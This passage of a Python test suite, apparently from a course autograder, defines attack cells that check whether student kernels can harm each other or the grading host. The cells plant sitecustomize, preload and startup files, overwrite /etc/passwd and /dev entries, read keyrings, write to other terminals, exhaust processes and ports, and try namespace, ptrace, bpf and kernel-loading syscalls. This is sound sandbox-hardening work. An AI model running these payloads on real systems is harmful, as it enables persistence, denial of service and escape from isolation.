"""Attacks on what kernels share: with each other, with later kernels, with the system and with the grader.

An attack whose harm falls on others shows nothing in its own outcome. So it looks first whether one like it has
been there, or is there now, and tells; and honest students are graded beside and after it: see `beside.py`.
"""

from collections.abc import Mapping

from tests.attacks.model import (
    DIED,
    ERROR,
    MEMORY,
    OUTPUT,
    PASSED,
    REFUSED,
    STOPPED,
    TAMPERED,
    TIMEOUT,
    WRONG,
    Attack,
    Outcomes,
    cell,
)

HEARD = PASSED + WRONG + ERROR + OUTPUT + TIMEOUT + DIED + TAMPERED + MEMORY
"""For solved exercises, where what arrives may be as if nothing had been handed in."""

# attempt: does something that may fail. leave: writes a file, and tells where it is there already. exhaust: takes
# until there is no more, and tells where there is none from the beginning, which somebody else must have caused.
_TOOLS = """
{GUARD}
import ctypes
import errno
import socket
import struct
import time
libc = ctypes.CDLL(None, use_errno=True)
FULL = (errno.EMFILE, errno.ENFILE, errno.ENOSPC, errno.EAGAIN, errno.EDQUOT, errno.ENOMEM, errno.ETOOMANYREFS,
        errno.EADDRINUSE)
kept = []
def attempt(action, *given, **more):
    try:
        return action(*given, **more)
    except (Exception, SystemExit) as problem:
        return problem
def leave(path, text="put here by an attacker"):
    if os.path.lexists(path):
        {LEAK}("left by somebody else:", path)
    attempt(os.makedirs, os.path.dirname(path), exist_ok=True)
    def write():
        with open(path, "w") as file:
            file.write(text)
    attempt(write)
def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result
def call(number, *given):
    return checked(libc.syscall(ctypes.c_long(number), *(
        ctypes.c_long(one) if isinstance(one, int) else one for one in given)))
def exhaust(what, take, most):
    for count in range(most):
        try:
            kept.append(take())
        except OSError as problem:
            if count == 0 and problem.errno in FULL:
                {LEAK}("nothing is left of:", what)
            break
def in_children(number, action, seconds):
    # Starts processes that do something, and stay.
    for count in range(number):
        try:
            child = os.fork()
        except OSError:
            break
        if child == 0:
            attempt(action)
            time.sleep(seconds)
            os._exit(0)
"""


def _beside(
    name: str, why: str, source: str, outcomes: Outcomes = PASSED, hold: float = 2, **more: bool
) -> Attack:
    """Make an attack in I.1 that holds what it has for some seconds, and then solves the exercise."""
    text = f"{_TOOLS}\n{cell(source)}\ntime.sleep({hold})\n{{SOLUTION}}"
    return Attack(name, why, {"I.1": text}, {"I.1": outcomes}, **more)  # type: ignore[arg-type]


FILES = (
    _beside(
        "leaves-a-file-in-every-folder",
        "It leaves a file in every folder that it may write, and tells of those that are there already.",
        """
        import sys
        skipped = ("/proc", "/sys", "/usr", sys.prefix, sys.base_prefix)
        for place, folders, _ in os.walk("/"):
            folders[:] = [one for one in folders if os.path.join(place, one) not in skipped]
            leave(os.path.join(place, "left-by-an-attacker"))
        """,
    ),
    _beside(
        "leaves-new-folders-at-the-top",
        "It makes folders at the top of the file system, for whoever comes later.",
        """
        for name in ("opt", "srv", "var/tmp", "mnt", "left", "boot", "root", "home/other", "run/user"):
            leave(f"/{name}/left-by-an-attacker")
        """,
    ),
    _beside(
        "plants-an-ipython-configuration",
        "It leaves a configuration of IPython for all users that ends every later kernel.",
        """
        end = "import os\\nos._exit(1)\\n"
        for folder in ("/etc/ipython", "/usr/local/etc/ipython", "/usr/etc/ipython", "/etc/jupyter"):
            for name in ("ipython_config.py", "ipython_kernel_config.py", "jupyter_config.py"):
                leave(f"{folder}/{name}", end)
        """,
    ),
    _beside(
        "plants-startup-files",
        "It leaves programs where IPython runs them when a kernel starts.",
        """
        for folder in ("/etc/ipython", "/usr/local/etc/ipython", "/home/student/.ipython/profile_default"):
            leave(f"{folder}/startup/00-first.py", "import os\\nos._exit(1)\\n")
        """,
    ),
    _beside(
        "plants-modules-that-python-runs",
        "It leaves sitecustomize, usercustomize and a .pth file wherever Python may look for them.",
        """
        import sys
        places = [*sys.path, "/", "/etc/python3", "/run/kernel", "/run", "/home", "/home/student"]
        places += ["/home/.local/lib/python3.11/site-packages", os.path.dirname(os.__file__)]
        for place in places:
            for name in ("sitecustomize.py", "usercustomize.py", "first.pth", "left_by_an_attacker.py"):
                if place and place != os.path.dirname(os.__file__) or name != "sitecustomize.py":
                    leave(os.path.join(place or ".", name), "import os; os._exit(1)\\n")
        """,
    ),
    _beside(
        "plants-modules-beside-the-kernel",
        "It leaves modules with the names of ones that later cells import, where the kernel starts.",
        """
        for place in ("/", "/home", "/run", "/run/kernel"):
            for name in ("pickle", "secrets", "zipfile", "antigravity", "turtle"):
                leave(f"{place}/{name}.py", "import os; os._exit(1)\\n")
        """,
    ),
    _beside(
        "plants-a-library-for-the-loader",
        "It tells the system's loader to load a library of its own into every program.",
        """
        for path in ("/etc/ld.so.preload", "/etc/ld.so.conf.d/first.conf", "/etc/ld-nix.so.preload"):
            leave(path, "/home/student/library.so")
        attempt(os.rename, "/etc/ld.so.cache", "/etc/ld.so.cache.old")
        """,
    ),
    _beside(
        "plants-settings-of-the-system",
        "It leaves users, name services, hosts and shell settings for the programs of later kernels.",
        """
        for name in ("passwd", "group", "shadow", "nsswitch.conf", "hosts", "resolv.conf", "profile", "environment",
                     "bash.bashrc", "matplotlibrc", "gitconfig", "pip.conf", "localtime.new", "terminfo/x/xterm",
                     "OpenCL/vendors/first.icd", "openssl.cnf", "magic", "mime.types"):
            leave(f"/etc/{name}", "left by an attacker")
        """,
    ),
    _beside(
        "replaces-links-at-the-top",
        "It renames /bin, /lib, /etc and /home, and puts its own in their places.",
        """
        for name in ("bin", "sbin", "lib", "lib64", "etc", "home", "run", "tmp"):
            if os.path.lexists(f"/{name}.old"):
                {LEAK}("renamed by somebody else:", name)
            if name not in ("lib", "lib64", "bin"):
                attempt(os.rename, f"/{name}", f"/{name}.old")
            attempt(os.unlink, f"/{name}")
            attempt(os.symlink, "/home/student", f"/{name}")
        """,
        PASSED + ERROR + DIED + WRONG,
        spoils=True,
    ),
    _beside(
        "replaces-devices",
        "It replaces /dev/null, /dev/urandom and the folder of shared memory by files of its own.",
        """
        for name in ("null", "zero", "urandom", "random", "full", "tty", "ptmx", "shm", "pts", "fd"):
            if os.path.lexists(f"/dev/{name}.old"):
                {LEAK}("renamed by somebody else:", name)
            if not isinstance(attempt(os.rename, f"/dev/{name}", f"/dev/{name}.old"), Exception):
                leave(f"/dev/{name}", "x")
        leave("/dev/left-by-an-attacker")
        """,
        PASSED + ERROR + DIED + WRONG,
        spoils=True,
    ),
    _beside(
        "changes-modes-of-shared-folders",
        "It takes the right to enter /home, /run and /etc from everybody.",
        """
        for place in ("/", "/etc", "/home", "/run", "/dev", "/dev/pts", "/tmp", "/run/values"):
            attempt(os.chmod, place, 0)
        """,
        PASSED + ERROR + DIED + WRONG,
        spoils=True,
    ),
    _beside(
        "leaves-links-among-the-sockets",
        "It puts links to the system's folders and pipes into the folder that it shares with the grader.",
        """
        for target in ("/", "/etc", "/proc/1/root", "{CANARY}", "..", "../control"):
            attempt(os.symlink, target, f"/run/kernel/{len(os.listdir('/run/kernel'))}")
        attempt(os.mkfifo, "/run/kernel/pipe")
        attempt(os.mkfifo, "/run/kernel/k-6")
        attempt(os.mkdir, "/run/kernel/closed")
        leave("/run/kernel/closed/file")
        attempt(os.chmod, "/run/kernel/closed", 0)
        """,
    ),
    _beside(
        "locks-shown-files",
        "It locks the files of the course, of Python and of the system that all kernels read.",
        """
        import fcntl
        import coursekit
        shown = [os.path.join(place, one) for root in (coursekit.__path__[0], "/etc", os.path.dirname(os.__file__))
                 for place, _, files in os.walk(root) for one in files][:800]
        for path in (*shown, "/dev/null", "/dev/urandom"):
            file = attempt(open, path, "rb")
            if not isinstance(file, Exception):
                kept.append(file)
                attempt(fcntl.flock, file, fcntl.LOCK_EX | fcntl.LOCK_NB)
                attempt(fcntl.lockf, file, fcntl.LOCK_SH | fcntl.LOCK_NB)
        """,
    ),
    _beside(
        "leases-shown-files",
        "It takes leases on files that it is shown: who opens them then waits for 45 seconds.",
        """
        import fcntl
        import signal
        import coursekit
        signal.signal(signal.SIGIO, signal.SIG_IGN)
        for place, _, files in os.walk(coursekit.__path__[0]):
            for name in files[:400]:
                file = attempt(open, os.path.join(place, name), "rb")
                if not isinstance(file, Exception):
                    kept.append(file)
                    for kind in (fcntl.F_WRLCK, fcntl.F_RDLCK):
                        if attempt(fcntl.fcntl, file, fcntl.F_SETLEASE, kind) == 0:
                            {LEAK}("leased:", name)
                            break
        """,
    ),
    _beside(
        "drops-the-page-cache",
        "It drops what the system keeps in memory of the libraries that all kernels use, again and again.",
        """
        import torch
        libraries = os.path.join(os.path.dirname(torch.__file__), "lib")
        files = [open(os.path.join(libraries, one), "rb") for one in os.listdir(libraries)[:40]]
        end = time.monotonic() + 4
        while time.monotonic() < end:
            for file in files:
                os.posix_fadvise(file.fileno(), 0, 0, os.POSIX_FADV_DONTNEED)
        """,
    ),
    _beside(
        "writes-system-settings",
        "It changes where core files go, how much memory is lent, and other settings of the whole system.",
        """
        for name in ("kernel/core_pattern", "kernel/pid_max", "vm/overcommit_memory", "vm/drop_caches",
                     "kernel/hostname", "net/ipv4/ip_forward", "user/max_user_namespaces", "fs/file-max",
                     "net/ipv4/ip_local_port_range", "net/core/somaxconn", "net/unix/max_dgram_qlen"):
            path = f"/proc/sys/{name}"
            before = attempt(lambda: open(path).read())
            def write():
                with open(path, "w") as file:
                    file.write(before)
                {LEAK}("written:", name)
            attempt(write)
        for path in ("/proc/sysrq-trigger", "/proc/1/oom_score_adj", "/sys/power/state"):
            attempt(lambda: open(path, "w").close() or {LEAK}("opened:", path) if "oom" not in path else None)
        """,
    ),
)

TALKING = (
    _beside(
        "meets-others-at-an-abstract-socket",
        "It listens at a socket without a file, and talks to whoever listens there already.",
        """
        place = "\\0coursekit-attackers-meet-here"
        listener = socket.socket(socket.AF_UNIX)
        try:
            listener.bind(place)
            listener.listen()
        except OSError:
            {LEAK}("another kernel listens at", repr(place))
        """,
        hold=4,
    ),
    _beside(
        "finds-sockets-of-others",
        "It reads the system's list of sockets for those of its neighbours and of what forks kernels.",
        """
        end = time.monotonic() + 4
        found = set()
        while time.monotonic() < end and not found:
            for line in open("/proc/net/unix"):
                path = line.split()[-1]
                if "/" in path and not path.startswith("/run/kernel/"):
                    found.add(path)
            time.sleep(0.2)
        if found:
            {LEAK}(found)
        """,
        hold=0,
    ),
    _beside(
        "finds-ports-of-others",
        "It finds the ports at which its neighbours listen, and sends a frame that says it is as long as memory.",
        """
        def mine():
            found = set()
            for name in os.listdir("/proc/self/fd"):
                link = attempt(os.readlink, f"/proc/self/fd/{name}")
                if isinstance(link, str) and link.startswith("socket:["):
                    found.add(link[8:-1])
            return found
        end = time.monotonic() + 5
        while time.monotonic() < end:
            for line in open("/proc/net/tcp").readlines()[1:]:
                parts = line.split()
                if parts[3] == "0A" and parts[9] not in mine():
                    port = int(parts[1].partition(":")[2], 16)
                    {LEAK}("a neighbour's port:", port)
                    def knock():
                        one = socket.create_connection(("127.0.0.1", port), timeout=1)
                        kept.append(one)
                        one.sendall(b"\\xff" + bytes(8) + b"\\x7f\\x03\\x00NULL" + bytes(16) + b"\\x00" + bytes(31))
                        one.sendall(b"\\x04\\x19\\x05READY\\x0bSocket-Type\\x00\\x00\\x00\\x04PUSH")
                        one.sendall(b"\\x02" + struct.pack(">Q", 1 << 34) + bytes(1 << 20))
                    attempt(knock)
                    end = 0
            time.sleep(0.1)
        """,
        hold=0,
    ),
    _beside(
        "listens-at-a-known-port",
        "It listens at the loopback network, and asks whether somebody does so already.",
        """
        try:
            kept.append(socket.create_server(("127.0.0.1", 45_123)))
        except OSError as problem:
            if problem.errno == errno.EADDRINUSE:
                {LEAK}("another kernel listens at port 45123")
        """,
        hold=4,
    ),
    _beside(
        "fills-all-ports",
        "Its children listen at every port of the loopback network that a kernel may be given.",
        """
        def listen(first):
            for port in range(first, min(first + 1000, 65_536)):
                one = socket.socket()
                kept.append(one)
                one.bind(("127.0.0.1", port))
                one.listen(1)
        for first in range(49_152, 65_536, 1000):
            in_children(1, lambda: listen(first), 6)
        time.sleep(1)
        one = attempt(socket.create_server, ("127.0.0.1", 0))
        """,
        PASSED + STOPPED,
        hold=3,
    ),
    _beside(
        "fills-the-network-with-packets",
        "It sends packets to itself and to everybody on the loopback network without end.",
        """
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        end = time.monotonic() + 3
        while time.monotonic() < end:
            for place in ("127.0.0.1", "127.255.255.255", "224.0.0.1"):
                attempt(one.sendto, bytes(60_000), (place, 45_124))
        """,
        hold=0,
    ),
    _beside(
        "reads-the-keyring-of-the-session",
        "It reads every key of the keyrings that it inherits from the grader.",
        """
        for ring in (-1, -2, -3, -4, -5, -6, -7, -8):
            buffer = ctypes.create_string_buffer(65_536)
            size = attempt(call, 250, 11, ring, buffer, 65_536)
            if isinstance(size, int):
                for (key,) in struct.iter_unpack("i", buffer.raw[:size - size % 4]):
                    about, content = ctypes.create_string_buffer(4096), ctypes.create_string_buffer(4096)
                    attempt(call, 250, 6, key, about, 4096)
                    attempt(call, 250, 11, key, content, 4096)
                    {LEAK}("a key:", about.value, content.value)
        """,
        hold=0,
    ),
    _beside(
        "leaves-keys",
        "It puts keys into the keyrings of its session and of its user, for later kernels to find.",
        """
        for ring in (-3, -4, -5):
            found = attempt(call, 250, 10, ring, b"user", b"left-by-an-attacker", 0)
            if isinstance(found, int):
                {LEAK}("a key is there already, in keyring", ring)
            attempt(call, 248, b"user", b"left-by-an-attacker", b"put here", 8, ring)
        """,
        hold=0,
    ),
    _beside(
        "clears-keyrings",
        "It clears the keyrings of its session and of its user, and takes the rights to them away.",
        """
        for ring in (-3, -4, -5):
            if not isinstance(attempt(call, 250, 7, ring), Exception):
                {LEAK}("cleared keyring", ring)
            attempt(call, 250, 5, ring, 0)
            attempt(call, 250, 3, ring)
        """,
        hold=0,
    ),
    _beside(
        "fills-the-quota-of-keys",
        "It adds keys until its user may have no more.",
        """
        count = iter(range(10**6))
        def add():
            return call(248, b"user", f"key {os.getpid()} {next(count)}".encode(), bytes(500), 500, -2)
        exhaust("keys", add, 400)
        """,
    ),
    _beside(
        "opens-all-terminals",
        "It opens every terminal that the system can have.",
        """
        def open_many():
            exhaust("terminals", lambda: os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY), 900)
        in_children(5, open_many, 5)
        open_many()
        """,
        PASSED + STOPPED,
        hold=2,
    ),
    _beside(
        "writes-to-terminals-of-others",
        "It opens a terminal, and reads and writes those that others have opened.",
        """
        end = time.monotonic() + 4
        mine = attempt(os.open, "/dev/ptmx", os.O_RDWR | os.O_NOCTTY)
        own = str(attempt(os.ptsname, mine)) if hasattr(os, "ptsname") else None
        if own is None and isinstance(mine, int):
            libc.ptsname.restype = ctypes.c_char_p
            own = (libc.ptsname(mine) or b"").decode()
        while time.monotonic() < end:
            others = [name for name in attempt(os.listdir, "/dev/pts") or ()
                      if name.isdigit() and f"/dev/pts/{name}" != own]
            if others:
                {LEAK}("terminals of others:", others)
                for name in others:
                    def type_in():
                        one = os.open(f"/dev/pts/{name}", os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
                        os.write(one, b"exit\\n")
                    attempt(type_in)
                break
            time.sleep(0.2)
        """,
        hold=0,
    ),
    _beside(
        "meets-others-in-message-queues",
        "It makes POSIX message queues and looks for those of others, until there can be no more.",
        """
        found = attempt(lambda: checked(libc.mq_open(b"/attackers-meet-here", 2)))
        if isinstance(found, int):
            {LEAK}("a message queue of somebody else")
        libc.mq_open(b"/attackers-meet-here", 66, 0o600, None)
        count = iter(range(10**6))
        exhaust("message queues",
                lambda: checked(libc.mq_open(f"/q{next(count)}".encode(), 66, 0o600, None)), 300)
        """,
    ),
    _beside(
        "meets-others-in-segments",
        "It makes System V segments, queues and semaphores with known keys, and looks for those of others.",
        """
        key = 0x5EED
        for make in (lambda flags: libc.shmget(key, 4096, flags), lambda flags: libc.msgget(key, flags),
                     lambda flags: libc.semget(key, 1, flags)):
            if make(0) >= 0:
                {LEAK}("System V IPC of somebody else")
            make(0o1666)
        """,
    ),
    _beside(
        "renames-the-machine",
        "It gives the machine and its domain another name.",
        """
        before = socket.gethostname()
        for rename in (libc.sethostname, libc.setdomainname):
            if rename(b"left-by-an-attacker", 19) == 0:
                {LEAK}("renamed")
        if before == "left-by-an-attacker":
            {LEAK}("renamed by somebody else")
        """,
        hold=0,
    ),
)

COUNTS = (
    _beside(
        "takes-all-inotify-instances",
        "It takes every instance of inotify that its user may have.",
        'exhaust("inotify instances", lambda: checked(libc.inotify_init()), 900)',
    ),
    _beside(
        "takes-inotify-watches",
        "It watches every file that it is shown, so that its user can watch no more.",
        """
        import sys
        one = checked(libc.inotify_init())
        end = time.monotonic() + 4
        for number, (place, _, files) in enumerate(os.walk("/")):
            for name in files:
                libc.inotify_add_watch(one, os.path.join(place, name).encode(), 0xFFF)
            if time.monotonic() > end:
                break
        """,
        PASSED + ERROR,
        hold=1,
    ),
    _beside(
        "sends-files-that-nobody-receives",
        "It sends files over sockets that nobody reads, until its user may have no more on the way.",
        """
        import array
        null = os.open("/dev/null", os.O_RDONLY)
        rights = array.array("i", [null] * 250)
        pairs = []
        def send():
            pair = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
            pairs.append(pair)
            pair[0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
        exhaust("files on the way", send, 400)
        """,
    ),
    _beside(
        "takes-all-pages-for-pipes",
        "It makes large pipes until its user gets small ones only.",
        """
        import fcntl
        def size():
            one, other = os.pipe()
            try:
                return fcntl.fcntl(one, fcntl.F_GETPIPE_SZ)
            finally:
                os.close(one)
                os.close(other)
        if size() < 65_536:
            {LEAK}("pipes are small already:", size())
        def make():
            one, other = os.pipe()
            kept.append(other)
            attempt(fcntl.fcntl, one, fcntl.F_SETPIPE_SZ, 1 << 20)
            return one
        exhaust("pipes", make, 450)
        """,
    ),
    _beside(
        "locks-memory",
        "It locks memory, by its own pages, segments and nameless files.",
        """
        import mmap
        pages = mmap.mmap(-1, 64 << 20)
        start = ctypes.addressof(ctypes.c_char.from_buffer(pages))
        for size in (64 << 20, 8 << 20, 7 << 20, 1 << 20):
            if libc.mlock(ctypes.c_void_p(start), ctypes.c_size_t(size)) == 0:
                break
        libc.mlockall(7)
        for key in range(20):
            segment = libc.shmget(0, 1 << 20, 0o1600)
            libc.shmctl(segment, 11, None)
        """,
    ),
    _beside(
        "queues-signals",
        "It sends itself signals that it never takes, until its user can queue no more.",
        """
        import signal
        signal.pthread_sigmask(signal.SIG_BLOCK, [40, 41])
        exhaust("signals", lambda: checked(libc.sigqueue(os.getpid(), 40, None)), 200_000)
        """,
    ),
    _beside(
        "takes-all-timers",
        "It makes timers until its user may have no more.",
        """
        def make():
            number = ctypes.c_int()
            call(222, 1, None, ctypes.byref(number))
        exhaust("timers", make, 200_000)
        """,
    ),
    _beside(
        "takes-watches-of-epoll",
        "It has hundreds of epolls watch hundreds of files, each of which the system counts.",
        """
        import select
        ends = [os.pipe() for _ in range(200)]
        def watch():
            one = select.epoll()
            for end in ends:
                one.register(end[0], select.EPOLLIN)
            return one
        exhaust("epoll watches", watch, 400)
        """,
    ),
    _beside(
        "takes-user-namespaces",
        "It makes user namespaces in pulses, and keeps hold of each by a file.",
        """
        def pulse():
            for count in range(60):
                child = os.fork()
                if child == 0:
                    made = libc.unshare(0x10000000)
                    time.sleep(0.2)
                    os._exit(0 if made == 0 else 1)
                held = attempt(os.open, f"/proc/{child}/ns/user", os.O_RDONLY)
                kept.append(held)
                _, status = os.waitpid(child, 0)
                if status == 0:
                    {LEAK}("made a user namespace")
                    break
        pulse()
        """,
    ),
    _beside(
        "takes-all-processes",
        "It has as many processes as it may, all asleep.",
        "in_children(110, lambda: None, 5)",
        PASSED + STOPPED,
        hold=3,
    ),
    _beside(
        "pulses-of-processes",
        "It starts as many processes as it may, which end at once, and starts them again.",
        """
        import signal
        signal.signal(signal.SIGCHLD, signal.SIG_IGN)
        end = time.monotonic() + 5
        while time.monotonic() < end:
            in_children(60, lambda: os._exit(0), 0)
        """,
        PASSED + STOPPED,
        hold=0,
    ),
)

SHARES = (
    _beside(
        "hundred-busy-processes",
        "It keeps both cores busy with a hundred processes while others are graded.",
        """
        def work():
            end = time.monotonic() + 8
            while time.monotonic() < end:
                pass
        in_children(100, work, 0)
        """,
        PASSED + STOPPED,
        hold=3,
        slow=True,
    ),
    _beside(
        "busy-processes-in-sessions-of-their-own",
        "A hundred busy processes have a session each, for which some systems give each its own share.",
        """
        def work():
            os.setsid()
            end = time.monotonic() + 8
            while time.monotonic() < end:
                pass
        in_children(100, work, 0)
        """,
        PASSED + STOPPED,
        hold=3,
        slow=True,
    ),
    _beside(
        "busy-threads",
        "A hundred threads compute at once.",
        """
        import hashlib
        import threading
        end = time.monotonic() + 6
        def work():
            while time.monotonic() < end:
                hashlib.sha256(bytes(1 << 22))
        for count in range(100):
            attempt(threading.Thread(target=work, daemon=True).start)
        """,
        PASSED + STOPPED,
        hold=2,
        slow=True,
    ),
    _beside(
        "takes-the-cores-first",
        "It asks for the highest priority, for real time, and for deadlines, for itself and for its group.",
        """
        for which, who in ((0, 0), (1, 0), (2, 0)):
            if libc.setpriority(which, who, -20) == 0:
                {LEAK}("priority -20")
            attempt(call, 251, which + 1, who, 1 << 13)
        for policy in (1, 2):
            if not isinstance(attempt(os.sched_setscheduler, 0, policy, os.sched_param(50)), Exception):
                {LEAK}("real time")
        deadline = struct.pack("IIQiIQQQ", 48, 6, 0, 0, 0, 900_000_000, 1_000_000_000, 1_000_000_000)
        if isinstance(attempt(call, 314, 0, deadline, 0), int):
            {LEAK}("deadlines")
        end = time.monotonic() + 3
        while time.monotonic() < end:
            pass
        """,
        hold=0,
    ),
    _beside(
        "lowers-the-priority-of-others",
        "It lowers the priority of every process of its user, and binds each to one core.",
        """
        before = os.nice(0)
        if before == 19:
            {LEAK}("somebody else has lowered its priority")
        libc.setpriority(2, 0, 19)
        libc.setpriority(2, 65534, 19)
        for number in range(1, 3000):
            attempt(os.sched_setaffinity, number, [0])
            attempt(os.sched_setscheduler, number, os.SCHED_IDLE, os.sched_param(0))
        """,
        PASSED + TIMEOUT,
        hold=1,
    ),
    _beside(
        "binds-to-one-core",
        "All its busy processes bind themselves to the first core.",
        """
        def work():
            os.sched_setaffinity(0, [min(os.sched_getaffinity(0))])
            end = time.monotonic() + 6
            while time.monotonic() < end:
                pass
        in_children(40, work, 0)
        """,
        PASSED + STOPPED,
        hold=2,
        slow=True,
    ),
    _beside(
        "reads-randomness",
        "Its processes read the system's randomness without end.",
        """
        def read():
            end = time.monotonic() + 5
            with open("/dev/urandom", "rb") as file:
                while time.monotonic() < end:
                    file.read(1 << 20)
                    os.getrandom(1 << 20)
        in_children(30, read, 0)
        """,
        PASSED + STOPPED,
        hold=2,
    ),
)

SHARED = (*FILES, *TALKING, *COUNTS, *SHARES)


# Each call is made in a process of its own, which it may change or end. Any end that is no refusal is told.
_CALLS = """
{GUARD}
import ctypes
import errno
import mmap
import socket
import struct
libc = ctypes.CDLL(None, use_errno=True)
REFUSALS = (errno.EPERM, errno.ENOSYS, errno.EACCES, errno.EAFNOSUPPORT, errno.EPROTONOSUPPORT,
            errno.ESOCKTNOSUPPORT, errno.ENOPROTOOPT, errno.EOPNOTSUPP)
def raw(number, *given):
    given = [ctypes.c_long(one) if isinstance(one, int) else one for one in given]
    if libc.syscall(ctypes.c_long(number), *given) < 0:
        raise OSError(ctypes.get_errno(), "refused")
def text(size=4096):
    return ctypes.create_string_buffer(size)
def try_all(tries):
    for name, action in tries.items():
        child = os.fork()
        if child == 0:
            code = 1
            try:
                action()
            except OSError as problem:
                code = 0 if problem.errno in REFUSALS else 2
            except BaseException:
                code = 0
            os._exit(code)
        _, status = os.waitpid(child, 0)
        if os.WIFEXITED(status) and os.WEXITSTATUS(status):
            {LEAK}("worked:" if os.WEXITSTATUS(status) == 1 else "was let in:", name)
"""


def _calling(name: str, why: str, tries: Mapping[str, str], before: str = "") -> Attack:
    """Make an attack of system calls. tries: a call's name to the expression that makes it."""
    lines = "".join(f"    {one!r}: lambda: {source},\n" for one, source in tries.items())
    text = f"{_CALLS}\n{cell(before)}\ntry_all({{\n{lines}}})\n{{SOLUTION}}"
    return Attack(name, why, {"I.1": text}, {"I.1": PASSED})


CALLS = (
    _calling(
        "calls-keyrings",
        "It calls what keeps keys.",
        {
            "add_key": 'raw(248, b"user", b"x", b"x", 1, -2)',
            "request_key": 'raw(249, b"user", b"x", None, -2)',
            "keyctl: get": "raw(250, 0, -3, 1)",
            "keyctl: join": "raw(250, 1, None)",
            "keyctl: persistent": "raw(250, 22, -1, -3)",
        },
    ),
    _calling(
        "calls-unshare",
        "It leaves its namespaces.",
        {
            "user": "raw(272, 0x10000000)",
            "mount": "raw(272, 0x20000)",
            "network": "raw(272, 0x40000000)",
            "user and network": "raw(272, 0x50000000)",
            "process": "raw(272, 0x20000000)",
            "cgroup": "raw(272, 0x02000000)",
            "time": "raw(272, 0x80)",
            "ipc": "raw(272, 0x08000000)",
        },
    ),
    _calling(
        "calls-clone-with-namespaces",
        "It starts processes in new namespaces, by the old and by the new call.",
        {
            "clone, user": "raw(56, 0x10000011, None, None, None, None)",
            "clone, user and mount": "raw(56, 0x10020011, None, None, None, None)",
            "clone, network": "raw(56, 0x40000011, None, None, None, None)",
            "clone3": 'raw(435, struct.pack("8Q", 0x10000000, 0, 0, 0, 17, 0, 0, 0), 64)',
        },
    ),
    _calling(
        "calls-setns",
        "It enters namespaces, its own and those of the first process.",
        {
            "own user": 'raw(308, os.open("/proc/self/ns/user", 0), 0)',
            "own mount": 'raw(308, os.open("/proc/self/ns/mnt", 0), 0)',
            "own network": 'raw(308, os.open("/proc/self/ns/net", 0), 0)',
            "by process": "raw(308, os.pidfd_open(os.getpid()), 0x10000000)",
        },
    ),
    _calling(
        "calls-mount",
        "It mounts and unmounts by the old calls.",
        {
            "mount": 'raw(165, b"none", b"/home/student", b"tmpfs", 0, None)',
            "bind": 'raw(165, b"/", b"/home/student", None, 4096, None)',
            "umount2": 'raw(166, b"/home/student", 2)',
            "pivot_root": 'raw(155, b"/home/student", b"/home/student")',
            "chroot": 'raw(161, b"/home/student")',
        },
    ),
    _calling(
        "calls-mount-anew",
        "It mounts by the new calls.",
        {
            "open_tree": 'raw(428, -100, b"/", 0)',
            "open_tree, a copy": 'raw(428, -100, b"/", 1)',
            "move_mount": 'raw(429, -100, b"/", -100, b"/home/student", 0)',
            "fsopen": 'raw(430, b"tmpfs", 0)',
            "fspick": 'raw(433, -100, b"/home/student", 0)',
            "mount_setattr": 'raw(442, -100, b"/home/student", 0, struct.pack("4Q", 1, 0, 0, 0), 32)',
        },
    ),
    _calling(
        "calls-mount-in-a-namespace",
        "It takes a user and a mount namespace of its own first, where it may mount.",
        {
            "mount": '(raw(272, 0x10020000), raw(165, b"none", b"/home/student", b"tmpfs", 0, None))',
            "fsopen": '(raw(272, 0x10020000), raw(430, b"tmpfs", 0))',
            "packets": "(raw(272, 0x50000000), socket.socket(17, socket.SOCK_RAW, 0))",
            "hostname": '(raw(272, 0x14000000), raw(170, b"x", 1))',
        },
    ),
    _calling(
        "calls-bpf",
        "It loads programs into the system.",
        {
            "map": 'raw(321, 0, struct.pack("IIII", 2, 4, 4, 1) + bytes(112), 128)',
            "program": "raw(321, 5, bytes(128), 128)",
            "next program": "raw(321, 11, bytes(128), 128)",
        },
    ),
    _calling(
        "calls-perf",
        "It measures itself and others by the system's counters.",
        {
            "itself": 'raw(298, struct.pack("IIQQQQ", 1, 128, 0, 0, 0, 0b1100000) + bytes(88), 0, -1, -1, 0)',
            "everybody": 'raw(298, struct.pack("IIQQQQ", 1, 128, 0, 0, 0, 0) + bytes(88), -1, 0, -1, 0)',
        },
    ),
    _calling(
        "calls-userfaultfd",
        "It asks to handle page faults itself, by which races in the system are won.",
        {"user mode": "raw(323, 1)", "any": "raw(323, 0)"},
    ),
    _calling(
        "calls-io-uring",
        "It makes a ring, by which calls pass a filter.",
        {
            "setup": "raw(425, 8, text(120))",
            "enter": "raw(426, 0, 0, 0, 0, None, 0)",
            "register": "raw(427, 0, 0, None, 0)",
        },
    ),
    _calling(
        "calls-ptrace",
        "It traces another process and reads and writes its memory.",
        {
            "attach": "raw(101, 16, os.getppid(), None, None)",
            "seize": "raw(101, 0x4206, os.getppid(), None, None)",
            "trace me": "raw(101, 0, 0, None, None)",
            "read": "raw(310, os.getppid(), vector, 1, vector, 1, 0)",
            "write": "raw(311, os.getppid(), vector, 1, vector, 1, 0)",
            "kcmp": "raw(312, os.getpid(), os.getppid(), 0, 0, 0)",
            "pidfd_getfd": "raw(438, os.pidfd_open(os.getppid()), 0, 0)",
            "process_madvise": "raw(440, os.pidfd_open(os.getppid()), vector, 1, 20, 0)",
        },
        """
        place = ctypes.create_string_buffer(b"eight...")
        vector = struct.pack("QQ", ctypes.addressof(place), 8)
        """,
    ),
    _calling(
        "calls-kernel-loading",
        "It loads modules and other kernels, and reads the system's log.",
        {
            "kexec_load": "raw(246, 0, 0, None, 0)",
            "kexec_file_load": "raw(320, -1, -1, 0, None, 0)",
            "init_module": 'raw(175, b"x", 1, b"")',
            "finit_module": 'raw(313, os.open("/dev/null", 0), b"", 0)',
            "delete_module": 'raw(176, b"no_such_module", 0)',
            "syslog": "raw(103, 10, None, 0)",
            "syslog, read": "raw(103, 3, text(), 4096)",
        },
    ),
    _calling(
        "calls-of-an-administrator",
        "It sets the clock, quotas and swap, and starts the machine anew.",
        {
            "quotactl": "raw(179, 0x80000700, None, 0, text())",
            "quotactl_fd": 'raw(443, os.open("/", 0), 0x80000700, 0, text())',
